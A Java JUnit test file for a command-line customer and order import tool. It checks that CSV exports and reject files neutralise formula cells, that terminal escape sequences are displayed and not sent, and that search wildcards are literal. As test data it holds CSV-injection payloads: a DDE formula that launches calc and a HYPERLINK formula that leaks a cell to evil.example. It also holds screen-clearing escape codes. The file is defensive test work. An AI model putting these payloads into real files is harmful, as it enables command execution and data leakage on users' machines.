package dev.rekindle.imports;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Issue 20 item 6: formula cells from an import file come out of every CSV neutralised, terminal escape
 * sequences are shown instead of run, and {@code --name %} is a literal percent sign.
 */
class SafeOutputTests extends ImportTestSupport {

    static final String CALC = "=cmd|' /C calc'!A0";
    static final String LINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
    static final String ESCAPES = "\u001b]0;PWNED\u0007\u001b[2J";

    @BeforeEach
    void formulaCustomers() {
        Path customers = write("customers.csv", "customer_id,name,city\n"
                + "tb_calc,\"" + CALC + "\",杭州\n"
                + "tb_link,\"" + LINK.replace("\"", "\"\"") + "\",+1+1\n"
                + "tb_esc,王" + ESCAPES + ",@SUM(1)\n"
                + "tb_pct,100%纯棉,上海\n");
        assertEquals(0, run("customers import " + customers).exit());
        Path orders = write("orders.csv", """
                order_id,customer_id,time,amount
                A-1,tb_calc,2024-01-01 10:00:00,10.00
                A-2,tb_link,2024-01-02 10:00:00,20.00
                A-3,tb_esc,2024-01-03 10:00:00,30.00
                A-4,tb_pct,2024-01-04 10:00:00,12.50
                """);
        Result imported = run("orders import " + orders);
        assertEquals(0, imported.exit(), imported.all());
    }

    @Test
    void customersFindAsCsvShouldPrefixFormulaCellsAndKeepNumbers() {
        Result r = run("customers find --name tb_ --format csv");

        assertEquals(0, r.exit(), r.all());
        assertTrue(r.out().contains("tb_calc,'" + CALC + ","), r.out());
        assertTrue(r.out().contains("tb_link,\"'=HYPERLINK("), r.out());
        assertTrue(r.out().contains(",'+1+1,"), r.out());
        assertTrue(r.out().contains(",'@SUM(1),"), r.out());
        assertFalse(r.out().contains("\u001b"), "no raw ESC even in CSV: " + r.out());
        assertTrue(r.out().contains("王\\x1b]0;PWNED\\x07\\x1b[2J"), r.out());
        for (String line : r.out().split("\n")) {
            for (String bad : List.of(",=", ",+", ",@", ",-1")) {
                assertFalse(line.contains(bad), line);
            }
        }
    }

    @Test
    void segmentsShowAsCsvShouldPrefixFormulaCells() {
        assertEquals(0, run("segments refresh --as-of 2024-02-01").exit());

        Result r = run("segments show active --format csv --limit 100");

        assertEquals(0, r.exit(), r.all());
        assertTrue(r.out().contains(",'" + CALC + ","), r.out());
        assertTrue(r.out().contains(",'+1+1,"), r.out());
        assertFalse(r.out().contains(",=") || r.out().contains(",+1"), r.out());
    }

    @Test
    void theRejectFileShouldPrefixFormulaCellsButKeepPlainNegativeNumbers() throws Exception {
        Path orders = write("bad.csv", "order_id,customer_id,time,amount\n"
                + "B-1,\"" + CALC + "\",2024-13-45 10:00:00,-12.5\n"
                + "B-2,tb_x,2024-01-01 10:00:00,+1+1\n"
                + "B-3,tb_y,2024-01-01 10:00:00,12.00\n");

        Result r = run("orders import " + orders + " --skip-bad");

        assertEquals(0, r.exit(), r.all());
        String rejects = Files.readString(dir.resolve("bad.rejects.csv"), StandardCharsets.UTF_8);
        assertTrue(rejects.contains("B-1,'" + CALC + ",2024-13-45 10:00:00,-12.5,"), rejects);
        assertTrue(rejects.contains("B-2,tb_x,2024-01-01 10:00:00,'+1+1,"), rejects);
    }

    @Test
    void tablesAndShowShouldDisplayEscapeSequencesInsteadOfSendingThem() {
        Result find = run("customers find --name 王");
        Result show = run("customers show tb_esc");

        for (Result r : List.of(find, show)) {
            assertEquals(0, r.exit(), r.all());
            assertFalse(r.out().contains("\u001b]") || r.out().contains("\u0007") || r.out().contains("\u001b[2J"), r.out());
            assertTrue(r.out().contains("王\\x1b]0;PWNED\\x07\\x1b[2J"), r.out());
        }
    }

    @Test
    void importErrorsShouldShowEscapeSequencesInsteadOfSendingThem() {
        Path orders = write("esc.csv", "order_id,customer_id,time,amount\nE-1,tb_e,2024-01-01 10:00:00,1" + ESCAPES + "\n");

        Result r = run("orders import " + orders);

        assertEquals(1, r.exit(), r.all());
        assertTrue(r.err().contains("esc.csv"), r.err());
        assertFalse(r.err().contains("\u0007") || r.err().contains("\u001b]"), r.err());
        assertTrue(r.err().contains("\\x1b]0;PWNED\\x07"), r.err());
    }

    @Test
    void percentAndUnderscoreInANameSearchAreLiteral() {
        Result percent = run("customers find --name % --format csv");
        Result underscore = run("customers find --name _ --format csv");

        assertEquals(0, percent.exit(), percent.all());
        assertEquals(2, percent.out().strip().split("\n").length, "only 100%纯棉: " + percent.out());
        assertTrue(percent.out().contains("tb_pct,100%纯棉"), percent.out());
        assertEquals(5, underscore.out().strip().split("\n").length, "the four tb_ ids: " + underscore.out());
        assertEquals(1, run("customers find --name 100%纯 --format csv").out().strip().split("\n").length - 1);
    }
}
